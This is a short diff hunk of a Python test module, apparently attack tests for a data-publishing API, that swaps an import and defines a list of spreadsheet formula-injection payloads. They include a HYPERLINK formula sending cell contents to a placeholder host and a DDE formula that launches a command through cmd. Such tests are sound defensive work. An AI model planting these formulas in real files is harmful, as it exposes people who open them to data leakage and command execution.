@@ -24,9 +24,9 @@ from schemas.findings import Finding, Location
 from schemas.messages import Message
 from tests.api.caller import Caller
 from tests.api.three_datasets import OPEN, OWNERS, basis, draft, figures, publish_figures
-from tests.attacks.one_database import database_url
+from tests.attacks.one_database import database_kind
 
-assert database_url
+assert database_kind
 
 FORMULAS = (
     '=HYPERLINK("https://elsewhere.example/?"&A1;"see")', "-2+3", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
